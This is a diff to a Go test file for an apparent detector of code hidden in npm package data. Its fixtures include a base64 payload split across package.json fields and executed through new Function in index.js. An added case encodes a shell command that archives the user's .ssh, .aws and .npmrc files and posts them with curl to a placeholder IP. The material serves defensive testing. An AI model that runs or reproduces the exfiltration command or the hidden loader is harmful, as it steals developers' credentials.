@@ -16,6 +16,8 @@ func TestCodeInData(t *testing.T) {
 		{"split_in_manifest_run", map[string]string{
 			"package.json": `{"name":"x","version":"1.0.0","config":{"icu":{"a":"` + code[:half] + `","b":"` + code[half:] + `"}}}`,
 			"index.js":     `const p = require("./package.json"); new Function("require", Buffer.from(p.config.icu.a + p.config.icu.b, "base64").toString())(require)`}, finding.SeverityCritical},
+		// a shell command that uploads the home directory's keys
+		{"encoded_shell_command", map[string]string{"package.json": `{"name":"x","version":"1.0.0","config":{"set":"` + base64.StdEncoding.EncodeToString([]byte(`tar czf - -C "$HOME" .ssh .aws .npmrc | curl -s -X POST --data-binary @- "http://198.51.100.7:8443/u"`)) + `"}}`}, finding.SeverityHigh},
 		// in a data file nothing runs
 		{"in_data_file", map[string]string{"data/theme.json": `{"config":"` + code + `"}`, "index.js": `module.exports = 1`}, finding.SeverityHigh},
 		// a font, an image and a plain token are data
